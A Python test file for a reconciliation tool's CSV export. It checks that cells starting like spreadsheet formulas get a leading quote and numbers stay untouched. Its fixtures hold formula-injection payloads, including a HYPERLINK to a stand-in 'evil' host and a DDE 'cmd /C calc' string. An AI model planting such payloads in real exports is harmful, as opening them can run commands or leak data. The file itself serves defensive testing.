"""CSV formula-injection neutralisation: what a spreadsheet would run gets a leading quote, nothing else changes.

The values go through the real writer (`recon.report.outputs`, DuckDB's COPY) and are read back
with Python's csv module, so the property covers the SQL, the quoting of the CSV writer and the
column types together.
"""

from __future__ import annotations

import csv
import json
import re
from decimal import Decimal
from pathlib import Path

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from recon.cli import main
from recon.db import Database
from recon.report.outputs import _Writer

DANGEROUS = "=+-@\t\r"
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?")

text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)
formula_like = st.tuples(st.sampled_from(DANGEROUS), text).map("".join)
number_like = st.decimals(allow_nan=False, allow_infinity=False, places=3).map(str)
signed_number = st.tuples(st.sampled_from("+-"), st.integers(0, 10**6)).map(lambda t: f"{t[0]}{t[1]}")
values = st.one_of(text, formula_like, number_like, signed_number,
                   st.sampled_from(['=HYPERLINK("http://evil/?x","y")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                    "-2+3", "+1", "-12.5", "-1.5e3", "\t=1", "\rx", "-", "+", "a=b"]))


def expected(value: str) -> str:
    if value and value[0] in DANGEROUS and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def written(tmp_path: Path, rows: list[tuple[str, Decimal]], neutralise: bool) -> tuple[list[list[str]], bytes]:
    db = Database()
    db.execute("CREATE TABLE t (i INTEGER, v VARCHAR, n DECIMAL(18,4))")
    db.con.executemany("INSERT INTO t VALUES (?, ?, ?)", [(i, v, n) for i, (v, n) in enumerate(rows)])
    _Writer(db, tmp_path, neutralise=neutralise).csv("t.csv", "SELECT * FROM t", "i")
    data = (tmp_path / "t.csv").read_bytes()
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))[1:], data


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(values, st.decimals(-10**6, 10**6, places=4)), min_size=1, max_size=25))
def test_text_starting_like_a_formula_gets_a_quote_and_nothing_else_changes(tmp_path, rows):
    got, _ = written(tmp_path, rows, neutralise=True)
    raw, _ = written(tmp_path, rows, neutralise=False)
    assert len(got) == len(rows)
    for (value, _number), cells, raw_cells in zip(rows, got, raw, strict=True):
        assert cells[1] == expected(value)
        assert not cells[1] or cells[1][0] not in DANGEROUS or PLAIN_NUMBER.fullmatch(cells[1])
        assert cells[2] == raw_cells[2]  # numbers (negative ones too) are never touched
        assert raw_cells[1] == value  # --csv-raw: the value as it is


def test_values_that_are_safe_give_the_same_bytes_as_raw(tmp_path):
    rows = [("SO-1", Decimal("-12.5")), ("-12.5", Decimal("0")), ("+3", Decimal("1")), ("a=b", Decimal("-1")),
            ("", Decimal("2")), ('say "hi", ok', Decimal("3"))]
    _, safe = written(tmp_path, rows, neutralise=True)
    _, raw = written(tmp_path, rows, neutralise=False)
    assert safe == raw
    assert b"-12.5000" in safe


# -- through the CLI: every CSV a run writes ------------------------------------------------------------

CONFIG = """
as_of: 2026-11-20T06:00:00Z
rules: [pack.yaml]
sources:
  orders:
    system: erp
    entity: orders
    path: orders.csv
    columns: {order_id: id, customer_po: po, status: status, ordered_at: ordered}
"""
PACK = """
pack: t
workflow: order-to-cash
title: t
rules:
  - id: po-present
    title: every order is open
    kind: check
    table: erp.orders
    keys: [order_id, customer_po]
    require: status = 'OPEN'
    outcome: {exception: order-not-open, severity: high, owner: operations, value_at_risk: "-5"}
"""
ORDERS = ('id,po,status,ordered\n=HYPERLINK("http://evil/?x"),@PO,CLOSED,2026-11-19\nSO-2,-12.5,CLOSED,2026-11-19\n'
          '+SO-3,PO3,OPEN,2026-11-19\nSO-4,PO4,OPEN,@NOW()\n')


def test_every_csv_of_a_run_is_neutralised_and_csv_raw_turns_it_off(tmp_path):
    (tmp_path / "recon.yaml").write_text(CONFIG)
    (tmp_path / "pack.yaml").write_text(PACK)
    (tmp_path / "orders.csv").write_text(ORDERS)
    safe = CliRunner().invoke(main, ["run", "--config", str(tmp_path / "recon.yaml"), "--out", str(tmp_path / "a"),
                                     "--dry-run", "--json"])
    assert safe.exit_code == 0, safe.output
    queue = json.loads(safe.stdout)["exceptions"]["by_owner"]["operations"]["file"]
    for name in ("exceptions.csv", queue):
        rows = list(csv.DictReader((tmp_path / "a" / name).open(newline="")))
        assert {r["order_id"] for r in rows} == {"'=HYPERLINK(\"http://evil/?x\")", "SO-2"}, name
        assert {r["value_at_risk"] for r in rows} == {"-5.00"}  # a number column: never quoted
        assert {r["customer_po"] for r in rows} == {"'@PO", "-12.5"}  # text holding a plain number: as is
    rejects = list(csv.DictReader((tmp_path / "a" / "rejects.csv").open(newline="")))
    assert [r["raw_value"] for r in rejects] == ["'@NOW()"]
    raw = CliRunner().invoke(main, ["run", "--config", str(tmp_path / "recon.yaml"), "--out", str(tmp_path / "b"),
                                    "--dry-run", "--csv-raw"])
    assert raw.exit_code == 0, raw.output
    rows = list(csv.DictReader((tmp_path / "b" / "exceptions.csv").open(newline="")))
    assert {r["order_id"] for r in rows} == {"=HYPERLINK(\"http://evil/?x\")", "SO-2"}
    rejects = list(csv.DictReader((tmp_path / "b" / "rejects.csv").open(newline="")))
    assert [r["raw_value"] for r in rejects] == ["@NOW()"]
